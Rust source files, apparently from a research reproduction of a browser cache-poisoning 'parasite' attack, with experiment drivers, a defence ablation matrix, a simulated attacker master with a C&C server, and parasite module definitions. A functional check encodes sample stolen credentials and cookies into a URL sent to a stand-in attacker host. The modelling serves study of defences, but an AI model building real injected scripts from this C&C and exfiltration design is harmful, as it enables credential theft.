pub fn fig3_persistency(sites: usize, days: u32, seed: u64) -> Fig3Result {
    let population = Population::generate(PopulationConfig::small(sites, seed));
    let series = Crawler::new(population).run(days);
    Fig3Result { series }
}

// ---------------------------------------------------------------------------
// Figure 4 — C&C channel
// ---------------------------------------------------------------------------

/// Result of the Figure 4 experiment.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Fig4Result {
    /// (parallel requests, modelled goodput bytes/s).
    pub goodput_curve: Vec<(u32, f64)>,
    /// Bytes of command data delivered end-to-end in the functional check.
    pub command_bytes_delivered: usize,
    /// Bytes exfiltrated upstream in the functional check.
    pub upstream_bytes_delivered: usize,
}

impl Fig4Result {
    /// Renders the channel characterisation.
    pub fn render(&self) -> String {
        let mut out = String::from("Figure 4 - C&C channel characterisation\n");
        out.push_str("parallel image requests | downstream goodput (KB/s)\n");
        for (parallel, goodput) in &self.goodput_curve {
            out.push_str(&format!("{:>23} | {:>10.1}\n", parallel, goodput / 1000.0));
        }
        out.push_str(&format!(
            "functional check: {} command bytes down, {} exfil bytes up\n",
            self.command_bytes_delivered, self.upstream_bytes_delivered
        ));
        out
    }
}

/// Runs the Figure 4 C&C channel experiment.
pub fn fig4_cnc_channel() -> Fig4Result {
    let goodput_curve = [1u32, 5, 10, 25, 50]
        .into_iter()
        .map(|parallel| (parallel, downstream_goodput_bytes_per_sec(parallel, 1.0)))
        .collect();

    // Functional end-to-end check: a command travels down the image channel,
    // stolen data travels back up the URL channel.
    let mut server = CncServer::new(MASTER_HOST);
    let command = Command::ExecuteModule("login-data".to_string());
    let command_len = command.to_bytes().len();
    server.queue_command(command);
    let images = server.serve_next_command();
    let dims: Vec<crate::cnc::ImageDimensions> = images
        .iter()
        .map(|r| {
            let text = r.body.as_text();
            let width = text.split("width=\"").nth(1).and_then(|s| s.split('"').next()).and_then(|s| s.parse().ok()).unwrap_or(0);
            let height = text.split("height=\"").nth(1).and_then(|s| s.split('"').next()).and_then(|s| s.parse().ok()).unwrap_or(0);
            crate::cnc::ImageDimensions { width, height }
        })
        .collect();
    let decoded = crate::cnc::decode_dimensions(&dims).unwrap_or_default();

    let exfil = b"user=alice&pass=correct-horse&cookie=SID:abc123";
    let url = crate::cnc::encode_upstream(MASTER_HOST, "campaign-0", exfil);
    server.receive_upstream(&url);

    Fig4Result {
        goodput_curve,
        command_bytes_delivered: if decoded.len() == command_len { command_len } else { 0 },
        upstream_bytes_delivered: server.exfiltrated().first().map(|r| r.data.len()).unwrap_or(0),
    }
}

// ---------------------------------------------------------------------------
// Figure 5 — CSP / HSTS / TLS measurement
// ---------------------------------------------------------------------------

/// Result of the Figure 5 experiment (plus the in-text adoption numbers).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Fig5Result {
    /// The full policy scan.
    pub scan: PolicyScan,
}

impl Fig5Result {
    /// Renders the statistics the paper reports.
    pub fn render(&self) -> String {
        let s = &self.scan;
        format!(
            "Figure 5 / in-text measurements ({} sites)\n\
             HTTP-only sites:            {:>6.2} %  (paper: 21 %)\n\
             vulnerable SSL versions:    {:>6.2} %  (paper: ~7 %)\n\
             responders without HSTS:    {:>6.2} %  (paper: 67.92 %)\n\
             preloaded responders:       {:>6}     (paper: 545 of 13419)\n\
             strippable to HTTP:         {:>6.2} %  (paper: up to 96.59 %)\n\
             pages supplying CSP:        {:>6.2} %  (paper: ~4.7 %)\n\
             pages with CSP rules:       {:>6.2} %  (paper: 4.33 %)\n\
             deprecated CSP headers:     {:>6.2} %  (paper: 15.3 %)\n\
             connect-src uses:           {:>6}     (paper: 160)\n\
             connect-src wildcards:      {:>6}     (paper: 17)\n\
             sites embedding analytics:  {:>6.2} %  (paper: 63 %)\n",
            s.total,
            s.tls.http_only_pct(),
            s.tls.vulnerable_ssl_pct(),
            s.hsts.without_hsts_pct(),
            s.hsts.preloaded,
            s.hsts.strippable_pct(),
            s.csp.supplied_pct(),
            s.csp.with_rules_pct(),
            s.csp.deprecated_pct(),
            s.csp.connect_src_uses,
            s.csp.connect_src_wildcards,
            s.google_analytics_pct(),
        )
    }
}

/// Runs the Figure 5 policy scan over a generated population.
pub fn fig5_csp_stats(sites: usize, seed: u64) -> Fig5Result {
    let population = Population::generate(PopulationConfig::small(sites, seed));
    Fig5Result {
        scan: scan(&population),
    }
}

// ---------------------------------------------------------------------------
// §VIII — defence ablation
// ---------------------------------------------------------------------------

/// Result of the defence ablation.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AblationResult {
    /// One row per defence.
    pub rows: Vec<AblationRow>,
}

impl AblationResult {
    /// Renders the defence / stage matrix.
    pub fn render(&self) -> String {
        let mut out = String::from("Countermeasure ablation (which attack stages still succeed)\n");
        out.push_str(&format!("{:<42}", "defence"));
        for stage in AttackStage::ALL {
            out.push_str(&format!(" | {stage:<26}"));
        }
        out.push('\n');
        for row in &self.rows {
            out.push_str(&format!("{:<42}", row.defense.to_string()));
            for stage in AttackStage::ALL {
                let survives = row.surviving_stages.contains(&stage);
                out.push_str(&format!(" | {:<26}", if survives { "survives" } else { "blocked" }));
            }
            out.push('\n');
        }
        out
    }
}

/// Runs the §VIII defence ablation.
pub fn ablation_defenses() -> AblationResult {
    AblationResult {
        rows: ablation_matrix(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table1_reproduces_the_papers_shape() {
        let result = table1_cache_eviction(1000);
        assert_eq!(result.rows.len(), 6);
        let ie = result.rows.iter().find(|r| r.browser.starts_with("IE")).unwrap();
        assert!(!ie.evicted_targets);
        assert_eq!(ie.remark, "DOS on memory");
        let chrome = result.rows.iter().find(|r| r.browser.starts_with("Chrome 81")).unwrap();
        assert!(chrome.evicted_targets);
        assert!(result.render().contains("DOS on memory"));
    }

    #[test]
    fn table2_all_supported_combinations_succeed() {
        let result = table2_injection_matrix();
        assert_eq!(result.rows.len(), 5);
        assert!(result.all_supported_succeed());
        // IE and Edge are n/a outside Windows, Safari outside Apple platforms.
        let render = result.render();
        assert!(render.contains("n/a"));
    }

    #[test]
    fn table3_matches_the_paper() {
        let result = table3_refresh_methods();
        let chrome = result.rows.iter().find(|(name, _)| name == "Chrome").unwrap();
        assert_eq!(chrome.1[0], RemovalCell::Survived, "Ctrl+F5 does not remove the parasite");
        assert_eq!(chrome.1[1], RemovalCell::Survived, "clear cache does not remove the parasite");
        assert_eq!(chrome.1[2], RemovalCell::Removed, "clearing cookies removes it");
        let ie = result.rows.iter().find(|(name, _)| name == "IE").unwrap();
        assert!(ie.1.iter().all(|c| *c == RemovalCell::NotApplicable));
    }

    #[test]
    fn table4_http_is_always_infectable_and_https_is_harder() {
        let result = table4_caches();
        assert_eq!(result.rows.len(), 23);
        let http_count = result.rows.iter().filter(|r| r.infected_over_http).count();
        let https_count = result.rows.iter().filter(|r| r.infected_over_https).count();
        assert!(http_count > https_count);
        let squid = result.rows.iter().find(|r| r.name == "Squid").unwrap();
        assert!(squid.infected_over_http);
        let bluecoat = result.rows.iter().find(|r| r.name == "Blue Coat ProxySG").unwrap();
        assert!(!bluecoat.infected_over_https);
    }

    #[test]
    fn table5_attacks_mostly_succeed_with_requirements_met() {
        let result = table5_attacks();
        assert!(result.reports.len() >= 15, "got {}", result.reports.len());
        assert!(result.successes() >= 14, "successes: {}", result.successes());
        assert!(result.render().contains("Transaction Manipulation"));
    }

    #[test]
    fn figure_flows_render_their_phases() {
        let fig1 = fig1_eviction_flow();
        assert!(fig1.steps.iter().any(|s| s.contains("junk")));
        assert!(fig1.render().contains("Figure 1"));
        let fig2 = fig2_infection_flow();
        assert!(fig2.steps.iter().any(|s| s.contains("[ATTACK]")));
        assert!(fig2.steps.iter().any(|s| s.contains("t=500198")));
    }

    #[test]
    fn fig3_fig4_fig5_and_ablation_produce_consistent_output() {
        let fig3 = fig3_persistency(400, 20, 7);
        assert_eq!(fig3.series.days.len(), 20);
        assert!(fig3.render().contains("day"));

        let fig4 = fig4_cnc_channel();
        assert!(fig4.command_bytes_delivered > 0);
        assert!(fig4.upstream_bytes_delivered > 0);
        assert!(fig4.goodput_curve.iter().any(|(p, g)| *p == 25 && (*g - 100_000.0).abs() < 1.0));

        let fig5 = fig5_csp_stats(1500, 3);
        assert_eq!(fig5.scan.total, 1500);
        assert!(fig5.render().contains("connect-src"));

        let ablation = ablation_defenses();
        assert_eq!(ablation.rows.len(), 7);
        assert!(ablation.render().contains("blocked"));
    }

    #[test]
    fn injection_race_is_deterministic_per_seed() {
        assert!(run_injection_race(1));
        assert!(run_injection_race(2));
    }
}
