//! Countermeasures and their effect on each attack stage (paper §VIII).
//!
//! The paper's recommendations are evaluated here as an ablation: each
//! defence is modelled as a switch on the relevant substrate, and
//! [`evaluate`] reports which stages of the attack pipeline (active
//! injection, cache persistence, cross-domain propagation, C&C, application
//! attacks) remain possible with that defence deployed. The headline finding
//! — CSP/SRI/HSTS help against persistence and C&C but none of them stop the
//! *active* injection phase — falls out of the model.

use serde::{Deserialize, Serialize};
use std::fmt;

/// The countermeasures discussed in §VIII.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Defense {
    /// No defence (baseline).
    None,
    /// Disable caching of scripts by appending a random query string to every
    /// request, so a fresh copy is loaded each time.
    RandomQueryString,
    /// Partition the browser cache by top-level site.
    CachePartitioning,
    /// A correctly configured CSP (`default-src 'self'`, no wildcard
    /// `connect-src`).
    StrictCsp,
    /// Subresource Integrity on script tags.
    SubresourceIntegrity,
    /// HSTS with preloading (forces HTTPS before the first request).
    HstsPreload,
    /// Out-of-band transaction detail confirmation on a second device.
    OutOfBandConfirmation,
}

impl Defense {
    /// All defences, baseline first (the row order of the ablation report).
    pub const ALL: [Defense; 7] = [
        Defense::None,
        Defense::RandomQueryString,
        Defense::CachePartitioning,
        Defense::StrictCsp,
        Defense::SubresourceIntegrity,
        Defense::HstsPreload,
        Defense::OutOfBandConfirmation,
    ];
}

impl fmt::Display for Defense {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Defense::None => "no defence",
            Defense::RandomQueryString => "random query string (no script caching)",
            Defense::CachePartitioning => "cache partitioning",
            Defense::StrictCsp => "strict CSP",
            Defense::SubresourceIntegrity => "subresource integrity",
            Defense::HstsPreload => "HSTS + preload",
            Defense::OutOfBandConfirmation => "out-of-band transaction confirmation",
        };
        f.write_str(name)
    }
}

/// The stages of the attack pipeline the ablation scores.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AttackStage {
    /// Injecting a spoofed response while the victim shares a network with
    /// the attacker.
    ActiveInjection,
    /// The infected object staying in the cache after the victim leaves the
    /// hostile network.
    CachePersistence,
    /// Spreading to other domains on the same device.
    CrossDomainPropagation,
    /// The covert command-and-control channel.
    CommandAndControl,
    /// Manipulating transactions / bypassing 2FA in applications.
    TransactionManipulation,
}

impl AttackStage {
    /// All stages in pipeline order.
    pub const ALL: [AttackStage; 5] = [
        AttackStage::ActiveInjection,
        AttackStage::CachePersistence,
        AttackStage::CrossDomainPropagation,
        AttackStage::CommandAndControl,
        AttackStage::TransactionManipulation,
    ];
}

impl fmt::Display for AttackStage {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            AttackStage::ActiveInjection => "active injection",
            AttackStage::CachePersistence => "cache persistence",
            AttackStage::CrossDomainPropagation => "cross-domain propagation",
            AttackStage::CommandAndControl => "command & control",
            AttackStage::TransactionManipulation => "transaction manipulation",
        };
        f.write_str(name)
    }
}

/// Whether a given stage remains possible when a defence is deployed.
///
/// The mapping encodes the paper's analysis:
/// * nothing stops the active injection phase while the victim shares a
///   network with the attacker — except HSTS preloading, which removes the
///   plaintext window entirely (for preloaded domains),
/// * random query strings and (to a lesser degree) cache partitioning attack
///   the persistence and propagation stages,
/// * CSP limits propagation and the C&C channel once the victim is off the
///   hostile network; SRI blocks re-use of a cached, tampered script,
/// * out-of-band confirmation defeats the 2FA/transaction attacks only.
pub fn stage_survives(defense: Defense, stage: AttackStage) -> bool {
    use AttackStage::*;
    use Defense::*;
    match (defense, stage) {
        (None, _) => true,

        (RandomQueryString, ActiveInjection) => true,
        (RandomQueryString, CachePersistence) => false,
        (RandomQueryString, CrossDomainPropagation) => false,
        (RandomQueryString, CommandAndControl) => true,
        (RandomQueryString, TransactionManipulation) => true,

        (CachePartitioning, ActiveInjection) => true,
        (CachePartitioning, CachePersistence) => true,
        (CachePartitioning, CrossDomainPropagation) => false,
        (CachePartitioning, CommandAndControl) => true,
        (CachePartitioning, TransactionManipulation) => true,

        (StrictCsp, ActiveInjection) => true,
        (StrictCsp, CachePersistence) => true,
        (StrictCsp, CrossDomainPropagation) => false,
        (StrictCsp, CommandAndControl) => false,
        (StrictCsp, TransactionManipulation) => true,

        (SubresourceIntegrity, ActiveInjection) => true,
        (SubresourceIntegrity, CachePersistence) => false,
        (SubresourceIntegrity, CrossDomainPropagation) => false,
        (SubresourceIntegrity, CommandAndControl) => true,
        (SubresourceIntegrity, TransactionManipulation) => true,

        (HstsPreload, ActiveInjection) => false,
        (HstsPreload, CachePersistence) => false,
        (HstsPreload, CrossDomainPropagation) => false,
        (HstsPreload, CommandAndControl) => true,
        (HstsPreload, TransactionManipulation) => true,

        (OutOfBandConfirmation, TransactionManipulation) => false,
        (OutOfBandConfirmation, _) => true,
    }
}

/// One row of the ablation report.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AblationRow {
    /// The defence deployed.
    pub defense: Defense,
    /// Which stages still succeed.
    pub surviving_stages: Vec<AttackStage>,
}

/// Runs the full defence-versus-stage ablation.
pub fn ablation_matrix() -> Vec<AblationRow> {
    Defense::ALL
        .iter()
        .map(|&defense| AblationRow {
            defense,
            surviving_stages: AttackStage::ALL
                .iter()
                .copied()
                .filter(|&stage| stage_survives(defense, stage))
                .collect(),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn baseline_lets_everything_through() {
        for stage in AttackStage::ALL {
            assert!(stage_survives(Defense::None, stage));
        }
    }

    #[test]
    fn no_single_header_defence_stops_active_injection() {
        for defense in [
            Defense::RandomQueryString,
            Defense::CachePartitioning,
            Defense::StrictCsp,
            Defense::SubresourceIntegrity,
            Defense::OutOfBandConfirmation,
        ] {
            assert!(
                stage_survives(defense, AttackStage::ActiveInjection),
                "{defense} should not stop the active phase"
            );
        }
        assert!(!stage_survives(Defense::HstsPreload, AttackStage::ActiveInjection));
    }

    #[test]
    fn csp_limits_persistence_era_capabilities() {
        assert!(!stage_survives(Defense::StrictCsp, AttackStage::CommandAndControl));
        assert!(!stage_survives(Defense::StrictCsp, AttackStage::CrossDomainPropagation));
        assert!(stage_survives(Defense::StrictCsp, AttackStage::TransactionManipulation));
    }

    #[test]
    fn out_of_band_confirmation_only_touches_transactions() {
        assert!(!stage_survives(Defense::OutOfBandConfirmation, AttackStage::TransactionManipulation));
        assert!(stage_survives(Defense::OutOfBandConfirmation, AttackStage::CachePersistence));
    }

    #[test]
    fn matrix_rows_agree_with_stage_gating() {
        // The report rows must be exactly the stages `stage_survives` admits,
        // in pipeline order — the renderer relies on both properties.
        for row in ablation_matrix() {
            let expected: Vec<AttackStage> = AttackStage::ALL
                .iter()
                .copied()
                .filter(|&stage| stage_survives(row.defense, stage))
                .collect();
            assert_eq!(row.surviving_stages, expected, "{}", row.defense);
        }
    }

    #[test]
    fn hsts_preload_blocks_the_whole_injection_pipeline() {
        // With no plaintext window there is nothing to inject, persist or
        // propagate — but an already-infected client's C&C still works.
        assert!(!stage_survives(Defense::HstsPreload, AttackStage::ActiveInjection));
        assert!(!stage_survives(Defense::HstsPreload, AttackStage::CachePersistence));
        assert!(!stage_survives(Defense::HstsPreload, AttackStage::CrossDomainPropagation));
        assert!(stage_survives(Defense::HstsPreload, AttackStage::CommandAndControl));
        assert!(stage_survives(Defense::HstsPreload, AttackStage::TransactionManipulation));
    }

    #[test]
    fn caching_defences_remove_persistence_not_cnc() {
        for defense in [Defense::RandomQueryString, Defense::SubresourceIntegrity] {
            assert!(!stage_survives(defense, AttackStage::CachePersistence), "{defense}");
            assert!(!stage_survives(defense, AttackStage::CrossDomainPropagation), "{defense}");
            assert!(stage_survives(defense, AttackStage::CommandAndControl), "{defense}");
        }
        // Partitioning only stops cross-site reuse, not same-site persistence.
        assert!(stage_survives(Defense::CachePartitioning, AttackStage::CachePersistence));
        assert!(!stage_survives(Defense::CachePartitioning, AttackStage::CrossDomainPropagation));
    }

    #[test]
    fn display_labels_are_unique_report_keys() {
        let mut labels: Vec<String> = Defense::ALL.iter().map(|d| d.to_string()).collect();
        labels.extend(AttackStage::ALL.iter().map(|s| s.to_string()));
        let total = labels.len();
        labels.sort();
        labels.dedup();
        assert_eq!(labels.len(), total, "defence/stage labels must be distinct");
    }

    #[test]
    fn ablation_matrix_has_one_row_per_defence() {
        let matrix = ablation_matrix();
        assert_eq!(matrix.len(), Defense::ALL.len());
        assert_eq!(matrix[0].surviving_stages.len(), AttackStage::ALL.len());
        // Every defence other than the baseline removes at least one stage.
        for row in &matrix[1..] {
            assert!(row.surviving_stages.len() < AttackStage::ALL.len(), "{}", row.defense);
        }
    }
}
