//! The master: the attacker that injects, controls and harvests.
//!
//! [`Master`] bundles the pieces the paper's attacker is made of — the
//! parasite template, the infection engine, the target list and the C&C
//! server — and hands out the two attack surfaces used by the experiments:
//! an [`InjectingExchange`] for HTTP-level scenarios and a [`MasterTap`] for
//! packet-level scenarios.

use crate::cnc::{CncServer, Command};
use crate::infect::{InfectionConfig, Infector};
use crate::injection::{InjectingExchange, MasterTap, SharedInjectionStats};
use crate::script::Parasite;
use mp_httpsim::transport::Exchange;
use mp_httpsim::url::Url;
use mp_netsim::time::Duration;
use serde::{Deserialize, Serialize};

/// A bot (one parasite instance phoning home) known to the master.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Bot {
    /// Campaign identifier the bot reported.
    pub campaign: String,
    /// Domain the parasite is camouflaged under.
    pub domain: String,
}

/// The master attacker.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Master {
    /// The parasite template injected into targets.
    pub parasite: Parasite,
    /// Infection options.
    pub infection: InfectionConfig,
    /// Target objects prepared for injection.
    pub targets: Vec<Url>,
    /// The C&C server.
    pub cnc: CncServer,
    /// Bots that have phoned home.
    bots: Vec<Bot>,
}

impl Master {
    /// Creates a master with its C&C host and the standard parasite modules.
    pub fn new(cnc_host: &str) -> Self {
        Master {
            parasite: Parasite::standard(cnc_host),
            infection: InfectionConfig::default(),
            targets: Vec::new(),
            cnc: CncServer::new(cnc_host),
            bots: Vec::new(),
        }
    }

    /// Adds a target object (a persistent script selected per §VI-A).
    pub fn add_target(&mut self, url: Url) -> &mut Self {
        self.targets.push(url);
        self
    }

    /// The infector built from this master's parasite and options.
    pub fn infector(&self) -> Infector {
        Infector {
            parasite: self.parasite.clone(),
            config: self.infection.clone(),
        }
    }

    /// Builds the HTTP-level on-path attacker wrapping `upstream`.
    pub fn injecting_exchange<U: Exchange>(&self, upstream: U) -> InjectingExchange<U> {
        let mut exchange = InjectingExchange::new(upstream, self.infector());
        for target in &self.targets {
            exchange.add_target(target);
        }
        exchange
    }

    /// Builds the packet-level tap, pre-loading it with infected copies of the
    /// prepared objects.
    pub fn packet_tap(
        &self,
        prepared: &[(Url, mp_httpsim::message::Response)],
        reaction: Duration,
    ) -> (MasterTap, SharedInjectionStats) {
        let (mut tap, stats) = MasterTap::new(self.infector(), reaction);
        for (url, genuine) in prepared {
            tap.prepare_object(url, genuine.clone());
        }
        (tap, stats)
    }

    /// Registers a bot check-in.
    pub fn register_bot(&mut self, campaign: &str, domain: &str) {
        let bot = Bot {
            campaign: campaign.to_string(),
            domain: domain.to_string(),
        };
        if !self.bots.contains(&bot) {
            self.bots.push(bot);
        }
    }

    /// Bots known to the master.
    pub fn bots(&self) -> &[Bot] {
        &self.bots
    }

    /// Queues a command for all bots.
    pub fn issue_command(&mut self, command: Command) {
        self.cnc.queue_command(command);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mp_httpsim::body::{Body, ResourceKind};
    use mp_httpsim::message::{Request, Response};
    use mp_httpsim::transport::StaticOrigin;

    #[test]
    fn master_builds_an_injecting_exchange_for_its_targets() {
        let mut master = Master::new("master.attacker.example");
        master.add_target(Url::parse("http://top1.com/persistent.js").unwrap());

        let mut origin = StaticOrigin::new("top1.com");
        origin.put_text("/persistent.js", ResourceKind::JavaScript, "lib()", "max-age=600");
        let mut path = master.injecting_exchange(origin);
        let response = path.exchange(&Request::get(Url::parse("http://top1.com/persistent.js").unwrap()));
        assert!(Parasite::detect(&response.body.as_text()).is_some());
    }

    #[test]
    fn master_builds_a_packet_tap_with_prepared_objects() {
        let master = Master::new("master.attacker.example");
        let url = Url::parse("http://somesite.com/my.js").unwrap();
        let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "f()"));
        let (tap, stats) = master.packet_tap(&[(url, genuine)], Duration::from_micros(300));
        assert_eq!(mp_netsim::attacker::Tap::name(&tap), "master");
        assert_eq!(stats.lock().responses_injected, 0);
    }

    #[test]
    fn bot_registry_deduplicates_and_commands_queue() {
        let mut master = Master::new("master.attacker.example");
        master.register_bot("campaign-0", "top1.com");
        master.register_bot("campaign-0", "top1.com");
        master.register_bot("campaign-0", "bank.example");
        assert_eq!(master.bots().len(), 2);
        master.issue_command(Command::ExfiltrateAll);
        assert_eq!(master.cnc.pending_commands(), 1);
    }
}
