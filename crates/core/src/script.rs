//! Parasite scripts.
//!
//! A *parasite* is a legitimate script from a real website, modified by the
//! attacker to carry extra behaviour (paper §III, §VI). The reproduction
//! models the payload as structured data embedded in the script text behind a
//! recognisable marker, so that (a) infected objects are ordinary
//! [`mp_httpsim::message::Response`]s that flow through caches exactly like
//! clean ones, and (b) the "execution" of a parasite can be recovered from
//! any script body by parsing the marker back out.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Marker that introduces the parasite payload inside a script body.
pub const PARASITE_MARKER: &str = "/*__PARASITE__*/";

/// The behaviour modules a parasite can carry (paper §VII lists the modules
/// the authors implemented: browser-data reading, protected-data extraction,
/// phishing-based spreading and login-data extraction, plus C&C).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum ParasiteModule {
    /// Establish the covert command-and-control channel (§VI-C).
    CommandControl,
    /// Read browser data: URL, user agent, cookies, local storage.
    ReadBrowserData,
    /// Extract protected data (microphone/camera/geolocation) via browser APIs.
    ExtractProtectedData,
    /// Hook login forms and exfiltrate credentials.
    ExtractLoginData,
    /// Read application data out of the DOM (mail, balances, chats).
    ReadDomData,
    /// Propagate to other domains (shared files, iframes).
    Propagate,
    /// Send personalised phishing from the victim's accounts.
    Phishing,
    /// Steal computation resources (crypto mining).
    StealComputation,
    /// Manipulate transactions / bypass 2FA by rewriting the DOM.
    ManipulateTransactions,
    /// Overlay a fake login screen.
    FakeLogin,
    /// Inject advertisements.
    AdInjection,
    /// Launch browser-based DDoS.
    Ddos,
    /// Scan and attack the victim's internal network (WebRTC/WebSocket recon).
    InternalNetworkRecon,
    /// Low-level side channels (CPU cache timing, Rowhammer, 0-day loader).
    SideChannels,
}

impl ParasiteModule {
    /// Short identifier used in the serialized payload.
    pub fn tag(self) -> &'static str {
        match self {
            ParasiteModule::CommandControl => "cnc",
            ParasiteModule::ReadBrowserData => "browser-data",
            ParasiteModule::ExtractProtectedData => "protected-data",
            ParasiteModule::ExtractLoginData => "login-data",
            ParasiteModule::ReadDomData => "dom-data",
            ParasiteModule::Propagate => "propagate",
            ParasiteModule::Phishing => "phishing",
            ParasiteModule::StealComputation => "mining",
            ParasiteModule::ManipulateTransactions => "transactions",
            ParasiteModule::FakeLogin => "fake-login",
            ParasiteModule::AdInjection => "ads",
            ParasiteModule::Ddos => "ddos",
            ParasiteModule::InternalNetworkRecon => "recon",
            ParasiteModule::SideChannels => "side-channels",
        }
    }

    /// Parses an identifier back into a module.
    pub fn from_tag(tag: &str) -> Option<Self> {
        let all = [
            ParasiteModule::CommandControl,
            ParasiteModule::ReadBrowserData,
            ParasiteModule::ExtractProtectedData,
            ParasiteModule::ExtractLoginData,
            ParasiteModule::ReadDomData,
            ParasiteModule::Propagate,
            ParasiteModule::Phishing,
            ParasiteModule::StealComputation,
            ParasiteModule::ManipulateTransactions,
            ParasiteModule::FakeLogin,
            ParasiteModule::AdInjection,
            ParasiteModule::Ddos,
            ParasiteModule::InternalNetworkRecon,
            ParasiteModule::SideChannels,
        ];
        all.into_iter().find(|m| m.tag() == tag)
    }
}

impl fmt::Display for ParasiteModule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.tag())
    }
}

/// A parasite payload: the modules it carries plus the C&C rendezvous host.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Parasite {
    /// Modules the parasite executes.
    pub modules: Vec<ParasiteModule>,
    /// The master's C&C host.
    pub cnc_host: String,
    /// Identifier of the infection campaign (lets the master tell bots apart).
    pub campaign: String,
}

impl Parasite {
    /// Creates a parasite with the default module set the paper's evaluation
    /// uses (C&C, browser data, login data, propagation).
    pub fn standard(cnc_host: impl Into<String>) -> Self {
        Parasite {
            modules: vec![
                ParasiteModule::CommandControl,
                ParasiteModule::ReadBrowserData,
                ParasiteModule::ExtractLoginData,
                ParasiteModule::Propagate,
            ],
            cnc_host: cnc_host.into(),
            campaign: "campaign-0".into(),
        }
    }

    /// Creates a parasite with an explicit module list.
    pub fn with_modules(cnc_host: impl Into<String>, modules: Vec<ParasiteModule>) -> Self {
        Parasite {
            modules,
            cnc_host: cnc_host.into(),
            campaign: "campaign-0".into(),
        }
    }

    /// Returns `true` if the parasite carries `module`.
    pub fn has_module(&self, module: ParasiteModule) -> bool {
        self.modules.contains(&module)
    }

    /// Serialises the payload as the JavaScript snippet appended to infected
    /// objects. Variable and function names are chosen so they do not collide
    /// with the host application (paper §VI-A).
    pub fn payload_snippet(&self) -> String {
        let modules = self
            .modules
            .iter()
            .map(|m| m.tag())
            .collect::<Vec<_>>()
            .join(",");
        format!(
            "{PARASITE_MARKER}(function __mp_parasite(){{var __mp_cnc='{}';var __mp_campaign='{}';var __mp_modules='{}';}})();",
            self.cnc_host, self.campaign, modules
        )
    }

    /// Recovers a parasite from a script body, if the body carries one.
    pub fn detect(script_body: &str) -> Option<Parasite> {
        let start = script_body.find(PARASITE_MARKER)?;
        let payload = &script_body[start..];
        let cnc_host = extract_quoted(payload, "__mp_cnc='")?;
        let campaign = extract_quoted(payload, "__mp_campaign='")?;
        let modules_raw = extract_quoted(payload, "__mp_modules='")?;
        let modules = modules_raw
            .split(',')
            .filter_map(ParasiteModule::from_tag)
            .collect();
        Some(Parasite {
            modules,
            cnc_host,
            campaign,
        })
    }
}

fn extract_quoted(text: &str, prefix: &str) -> Option<String> {
    let start = text.find(prefix)? + prefix.len();
    let rest = &text[start..];
    let end = rest.find('\'')?;
    Some(rest[..end].to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payload_round_trips_through_script_text() {
        let parasite = Parasite::standard("master.attacker.example");
        let original = "function appInit(){ /* real code */ }";
        let infected = format!("{original};{}", parasite.payload_snippet());
        let recovered = Parasite::detect(&infected).expect("marker must be detectable");
        assert_eq!(recovered, parasite);
        assert!(infected.starts_with(original), "original functionality is preserved");
    }

    #[test]
    fn clean_scripts_are_not_detected_as_parasites() {
        assert!(Parasite::detect("function appInit(){}").is_none());
        assert!(Parasite::detect("").is_none());
        // A script that merely mentions the word is not a payload.
        assert!(Parasite::detect("var note='parasite attack paper';").is_none());
    }

    #[test]
    fn module_tags_round_trip() {
        for module in [
            ParasiteModule::CommandControl,
            ParasiteModule::ReadBrowserData,
            ParasiteModule::ExtractProtectedData,
            ParasiteModule::ExtractLoginData,
            ParasiteModule::ReadDomData,
            ParasiteModule::Propagate,
            ParasiteModule::Phishing,
            ParasiteModule::StealComputation,
            ParasiteModule::ManipulateTransactions,
            ParasiteModule::FakeLogin,
            ParasiteModule::AdInjection,
            ParasiteModule::Ddos,
            ParasiteModule::InternalNetworkRecon,
            ParasiteModule::SideChannels,
        ] {
            assert_eq!(ParasiteModule::from_tag(module.tag()), Some(module));
        }
        assert_eq!(ParasiteModule::from_tag("unknown"), None);
    }

    #[test]
    fn custom_module_sets_are_preserved() {
        let parasite = Parasite::with_modules(
            "c2.example",
            vec![ParasiteModule::StealComputation, ParasiteModule::Ddos],
        );
        assert!(parasite.has_module(ParasiteModule::Ddos));
        assert!(!parasite.has_module(ParasiteModule::Phishing));
        let recovered = Parasite::detect(&parasite.payload_snippet()).unwrap();
        assert_eq!(recovered.modules, parasite.modules);
    }
}
