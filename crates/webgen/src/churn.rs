//! Object churn model.
//!
//! Figure 3 of the paper tracks, over 100 daily crawls of the 15K-top Alexa
//! pages, what fraction of sites still carry at least one JavaScript object
//! that has kept its *name* (and, separately, its *content hash*) since day
//! zero. The reproduction replaces the live crawl with a generative model:
//! every object belongs to a stability class that determines its daily
//! probability of being renamed and of having its content change. The class
//! mix is calibrated so the generated curves match the published end points
//! (≈87.5 % name-persistent at a 5-day window, ≈75.3 % at 100 days).

use rand::Rng;
use serde::{Deserialize, Serialize};

/// How stable one object is over time.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum StabilityClass {
    /// Never renamed during the study horizon; content changes occasionally.
    /// These are the "perfect targets" the attacker selects (§VI-A).
    Permanent,
    /// Renamed rarely (slow release cadence).
    SlowChurn,
    /// Renamed often (content-hashed bundle names, daily deploys).
